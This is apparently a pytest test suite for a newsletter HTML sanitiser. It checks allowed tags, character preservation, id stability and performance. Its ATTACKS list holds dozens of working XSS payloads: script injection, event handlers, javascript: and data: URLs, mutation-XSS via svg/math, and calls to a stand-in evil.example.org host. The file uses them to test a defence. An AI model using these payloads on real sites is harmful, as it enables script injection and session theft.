"""The body: whatever comes in, one closed vocabulary comes out, and no character is lost."""

from __future__ import annotations

import html as entities
import re
import time
from collections import Counter

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lxml_html

from newsletter import body
from newsletter.body import clean
from newsletter.rendering import render

pytestmark = pytest.mark.pure

INLINE = ["a", "strong", "em", "sup", "span"]
BLOCKS = ["h2", "h3", "h4", "h5", "p", "ol", "ul", "li", "blockquote", "table", "figure", "section"]
VOCABULARY = {*INLINE, *BLOCKS, *["caption", "thead", "tbody", "tr", "th", "td", "figcaption"]}
ATTRIBUTES = {"id", "class", "href", "scope", "colspan", "rowspan", "data-figure"}
# What else editors, word processors and attackers write.
FOREIGN = [
    *("div", "b", "i", "u", "font", "h1", "h6", "dl", "dt", "dd", "pre", "code", "center"),
    *("svg", "math", "mtext", "mi", "annotation-xml", "foreignObject", "desc", "title"),
    *("form", "button", "select", "option", "object", "marquee", "article", "main", "video"),
    *("iframe", "noscript", "base", "meta", "link", "input", "img", "hr", "br", "col", "o:p"),
]
# Show or hide their text by where they stand; where characters are counted they have no place.
SHOWN = [name for name in FOREIGN if name not in ("title", "iframe", "noscript")]

words = st.text(alphabet="财税动态一二abc 　\n&<>\"'", min_size=1, max_size=6)
names = st.sampled_from([*INLINE, *BLOCKS, "caption", "tr", "td", "th", "thead", "tbody"])
attributes = st.sampled_from(
    [
        "",
        ' id="b2345678"',
        ' id="x"',
        ' id="note-1"',
        ' class="lead"',
        ' class="evil notes date"',
        ' style="position:fixed"',
        " onclick=alert(1)",
        ' href="https://example.org/甲?a=1&b=2"',
        ' href="javascript:alert(1)"',
        ' href="#b2345678"',
        ' data-figure="abcd2345"',
        ' colspan="2" scope="col"',
    ]
)


def soup(tags: st.SearchStrategy[str]) -> st.SearchStrategy[list[tuple[str, str]]]:
    """Tags and words in any order, each with the text that it shows."""
    opening = st.builds(lambda name, more: (f"<{name}{more}>", ""), tags, attributes)
    closing = st.builds(lambda name: (f"</{name}>", ""), tags)
    shown = st.builds(lambda text: (entities.escape(text), text), words)
    return st.lists(st.one_of(opening, closing, shown), max_size=25)


def visible(text: str) -> Counter[str]:
    return Counter(character for character in text if not character.isspace())


def tree(html: str) -> etree._Element:
    return lxml_html.fragment_fromstring(html, create_parent="body")


def assert_closed(html: str) -> None:
    """Nothing but the vocabulary, and every block with an id of its own."""
    seen: set[str] = set()
    for element in tree(html).iterdescendants():
        assert element.tag in VOCABULARY, html
        assert set(element.attrib) <= ATTRIBUTES, html
        href = element.get("href", "#")
        assert re.match(r"(https?:|mailto:|#|/(?![/\\])|[^:/\\]*(?:$|[/?#]))", href), href
        for name in element.get("class", "").split():
            assert name in body.ROLES or (element.tag, name) == ("section", "notes")
        found = element.get("id")
        if found is not None:
            assert re.fullmatch(r"b[0-9a-z]{4,12}|(note|ref)-[0-9]{1,3}", found)
            assert found not in seen
            seen.add(found)
        elif element.tag in BLOCKS:
            assert next(element.iterancestors("td", "th", "caption"), None) is not None, html


# Properties --------------------------------------------------------------------------------
@settings(max_examples=500, deadline=None)
@given(soup(st.one_of(names, st.sampled_from(FOREIGN))))
@example([("<strong>", ""), ("<p>", ""), ("x", "x")])
@example([("<p>", ""), ("<object>", ""), ("<p>", ""), ("x", "x"), ("</object>", "")])
@example([("<a>", ""), ("<table>", ""), ("<a>", ""), ("x", "x")])
@example([("<h2>", ""), ("<br>", ""), ("<h3>", ""), ("x", "x")])
@example([("<svg>", ""), ("<desc>", ""), ("<td>", ""), ("x", "x")])
def test_cleaning_what_is_clean_changes_nothing(pieces: list[tuple[str, str]]) -> None:
    once = clean("".join(source for source, _ in pieces))

    assert clean(once) == once
    assert_closed(once)


@settings(max_examples=500, deadline=None)
@given(soup(st.one_of(names, st.sampled_from(SHOWN))))
@example([("<ul>", ""), ("x", "x"), ("<li>", ""), ("y", "y"), ("<ul>", ""), ("z", "z")])
@example([("<section>", ""), ("x", "x"), ("<table>", ""), ("y", "y"), ("<td>", ""), ("z", "z")])
@example([("<figure>", ""), ("x", "x"), ("<figcaption>", ""), ("<p>", ""), ("y", "y")])
@example([("<math><mi>", ""), ("x", "x"), ("</mi></math>", ""), ("y", "y")])
@example([("<svg><g><text>", ""), ("x", "x"), ("</text></g></svg>", ""), ("y", "y")])
def test_every_visible_character_survives_once(pieces: list[tuple[str, str]]) -> None:
    found = clean("".join(source for source, _ in pieces))
    shown = "".join(text for _, text in pieces)

    assert visible("".join(tree(found).itertext())) == visible(shown)
    assert visible(body.to_text(found)) == visible(shown)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
@example("&#1;&#xFFFE;&#0;")
@example("a\x00b\x0bc\ufffe")
@example("<![CDATA[x]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;")
@example("<" * 5000)
@example("&nbsp;&amp;nbsp;&bogus;")
def test_no_text_at_all_makes_it_fail(text: str) -> None:
    once = clean(text)

    assert clean(once) == once
    assert_closed(once)


# A well-formed article: the order of its characters is kept too.
paragraphs = st.lists(
    st.tuples(st.sampled_from(["p", "h2", "h3", "blockquote", "li"]), st.lists(words, max_size=3)),
    max_size=8,
)


@settings(max_examples=100, deadline=None)
@given(paragraphs)
def test_the_text_keeps_its_order(blocks: list[tuple[str, list[str]]]) -> None:
    html = "".join(
        f"<{tag}>{''.join(f'<span>{entities.escape(word)}</span>' for word in content)}</{tag}>"
        for tag, content in blocks
    )
    shown = "".join(word for _, content in blocks for word in content)

    assert "".join(body.to_text(clean(html)).split()) == "".join(shown.split())


# What is dangerous -------------------------------------------------------------------------
ATTACKS = [
    "<script>alert(1)</script>",
    "<p><script>alert(1)//</p>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onpointerrawupdate=alert(1)>甲</p>",
    '<a href="javascript:alert(1)">甲</a>',
    '<a href=" java\tscript:alert(1)">甲</a>',
    '<a href="java&#10;script&colon;alert(1)">甲</a>',
    '<a href="JaVaScRiPt:alert(1)">甲</a>',
    '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
    '<a href="vbscript:msgbox(1)">甲</a>',
    '<a href="//evil.example.org">甲</a>',
    '<a href=" //evil.example.org">甲</a>',
    '<a href="/\t/evil.example.org">甲</a>',
    '<a href="/\\evil.example.org">甲</a>',
    '<a href="\x01//evil.example.org">甲</a>',
    "<svg onload=alert(1)><p>甲</p></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>甲</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<p style='position:fixed;background:url(//evil.example.org)'>甲</p>",
    "<style>@import '//evil.example.org';</style>",
    "<link rel=stylesheet href=//evil.example.org>",
    "<meta http-equiv=refresh content='0;url=//evil.example.org'>",
    "<base href=//evil.example.org/>",
    "<iframe src=//evil.example.org srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example.org></object><embed src=//evil.example.org>",
    "<form action=//evil.example.org><input name=q><button formaction=javascript:alert(1)>",
    "<table background=//evil.example.org><tr><td style=x>甲</td></tr></table>",
    "<p id=location class='fixed lead'>甲</p><figure data-figure='../../x' id=cookie></figure>",
    "<video><source onerror=alert(1)></video><audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>甲</details>",
    "<a href='https://example.org' target=_top ping=//evil.example.org rel=opener>甲</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p title='--!><img src=x onerror=alert(1)>'>甲</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "&lt;img src=x onerror=alert(1)&gt;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_calls_outside_is_left(attack: str) -> None:
    for found in (clean(attack), clean(clean(attack)), render(clean(attack), {})):
        for element in tree(found).iterdescendants():
            assert element.tag in VOCABULARY | {"div"}
            assert not any(name.startswith("on") for name in element.attrib), found
            assert not {"style", "src", "srcdoc", "target", "ping"} & set(element.attrib)
            assert "evil" not in element.get("href", "")
            assert ":" not in element.get("href", "").removeprefix("https:")
    assert_closed(clean(attack))


def test_attacks_inside_one_another_stay_harmless() -> None:
    found = clean("".join(ATTACKS) + "".join(reversed(ATTACKS)))

    assert_closed(found)
    assert clean(found) == found


# Ids and shape -----------------------------------------------------------------------------
def test_every_block_is_given_an_id_once_and_keeps_it() -> None:
    found = clean("<h2>一、甲</h2><p>乙</p><ul><li>丙</li></ul><blockquote>丁</blockquote>")
    ids = re.findall(r' id="(b[0-9a-z]{8})"', found)

    assert len(set(ids)) == found.count(" id=") == 6
    edited = found.replace("乙", "乙改")
    assert clean(edited) == edited


def test_an_id_that_stands_twice_stays_with_the_first() -> None:
    found = clean('<p id="b22222222">甲</p><p id="b22222222">乙</p>')

    assert found.count('id="b22222222"') == 1
    assert found.startswith('<p id="b22222222">甲')


def test_a_cell_needs_no_ids() -> None:
    assert clean("<table><tr><td><p>甲</p></td></tr></table>").count(" id=") == 1


@pytest.mark.parametrize(
    ("written", "shape"),
    [
        ("甲<p>乙</p>丙", "p p p"),
        ("<div>甲</div>", "p"),
        ("甲<br>乙<BR/>丙<br class='x'>丁", "p p p p"),
        ("<p>甲<br>乙</p>", "p p"),
        ("<h1>甲</h1><h6>乙</h6>", "h2 h5"),
        ("<b>甲</b><i>乙</i>", "p strong em"),
        ("<b><p>甲</p><p>乙</p></b>", "p p"),
        ("<h2>甲<br>乙</h2>", "h2 p"),
        ("<p></p><p>　</p><ul><li></li></ul><p>甲</p>", "p"),
        ("<li>甲</li><li>乙</li>", "ul li li"),
        ("<ul>甲<li>乙</li><p>丙</p></ul>", "ul li li li p"),
        ("<figcaption>甲</figcaption>", "p"),
        ("<figure data-figure='abcd2345'></figure>", "figure"),
        ("<figure data-figure='abcd2345'><figcaption><p>甲</p></figcaption></figure>",
         "figure figcaption"),
        ("<section class='notes'>甲<ol><li>乙</li></ol></section>", "section p ol li"),
        ("<blockquote>甲</blockquote>", "blockquote p"),
        ("<table><caption>甲</caption><tr><td>乙</td></tr></table>",
         "table caption tbody tr td"),
    ],
)  # fmt: skip
def test_what_is_written_otherwise_takes_the_shape_of_the_contract(
    written: str, shape: str
) -> None:
    assert " ".join(str(element.tag) for element in tree(clean(written)).iterdescendants()) == shape


# What is derived ---------------------------------------------------------------------------
ARTICLE = clean(
    "<h2>一、总体</h2><p>甲<strong>乙</strong><sup>1</sup></p>"
    "<h3>（一）细则</h3><ul><li>丙<ul><li>丁</li></ul></li></ul>"
    "<table><caption>表名</caption><thead><tr><th></th><th>数</th></tr></thead>"
    "<tbody><tr><td><p>上</p><p>下</p></td><td></td></tr></tbody></table>"
    '<figure data-figure="abcd2345"><figcaption>图题</figcaption></figure>'
    "<figure data-figure='wxyz2345'></figure>"
)


def test_the_plain_text_is_a_line_a_block_and_a_tab_a_cell() -> None:
    assert body.to_text(ARTICLE).split("\n") == [
        "一、总体",
        "甲乙1",
        "（一）细则",
        "丙",
        "丁",
        "表名",
        "\t数",
        "上下\t",
        "图题",
    ]
    assert body.characters(ARTICLE) == len("一、总体甲乙1（一）细则丙丁表名数上下图题")


def test_headings_come_with_level_text_and_id() -> None:
    first, second = body.headings(ARTICLE)

    assert (first.level, first.text) == (2, "一、总体")
    assert (second.level, second.text) == (3, "（一）细则")
    assert f'<h2 id="{first.id}">' in ARTICLE


def test_tables_and_captions_are_read_back() -> None:
    assert body.tables(ARTICLE) == [
        {"caption": "表名", "head_rows": 1, "rows": [["", "数"], ["上下", ""]]}
    ]
    assert body.figure_captions(ARTICLE) == {"abcd2345": "图题", "wxyz2345": ""}


def test_blocks_of_the_same_words_keep_their_ids_through_a_new_import() -> None:
    old = clean("<h2>甲</h2><p>乙</p><p>乙</p><p>丙</p>")
    new = clean("<p>新</p><h2>甲</h2><p>乙</p><p>乙</p><p>丙改</p><h2>丙</h2>")
    ids = re.findall(r'id="(\w+)"', old)

    kept = body.keep_ids(new, old)

    found = re.findall(r'id="(\w+)"', kept)
    assert found[1:4] == ids[:3]
    assert not {found[0], found[4], found[5]} & set(ids)
    assert body.to_text(kept) == body.to_text(new)


def test_a_note_keeps_the_number_that_the_text_points_to() -> None:
    one = '<p>甲<sup><a href="#note-1">1</a></sup></p><section class="notes"><ol>{}</ol></section>'
    old = clean(one.format('<li id="note-1">先</li><li id="note-2">后</li>'))
    new = clean(one.format('<li id="note-1">后</li>'))

    assert '<li id="note-1">后</li>' in body.keep_ids(new, old)


# Bounds ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("piece", "times"),
    [
        ("字" * 250_000, 1),
        ("<p>字字字字</p>", 40_000),
        ("<tr><td>字", 40_000),
        ("<blockquote>字", 40_000),
        ("<span>字", 100_000),
        ("<b>字<p>", 40_000),
        ("<a href=/x>字<p>", 30_000),
        ("<table><tr><td>字", 40_000),
        ("<ul><li>字", 40_000),
        ("<div><x-y>字", 50_000),
        ("<br <", 200_000),
        ("<b", 500_000),
        ("<!--", 250_000),
        ("&amp", 100_000),
        ("</p>", 100_000),
    ],
)
def test_very_much_of_anything_is_cleaned_in_seconds(piece: str, times: int) -> None:
    start = time.process_time()
    found = clean(piece * times)
    taken = time.process_time() - start

    assert taken < 8, f"{taken:.1f} s"
    assert found.count("字") == piece.count("字") * times


def test_reasonable_nesting_stays() -> None:
    found = clean("<blockquote>" * 60 + "甲" + "</blockquote>" * 60)

    assert found.count("<blockquote") == 60


def test_unreasonable_nesting_loses_its_tags_and_no_word() -> None:
    found = clean("<p>先</p>" + "<blockquote>" * 100_000 + "甲<p>乙</p>" + "</blockquote>" * 9)

    assert "<blockquote" not in found
    assert body.to_text(found).split() == ["先", "甲", "乙"]
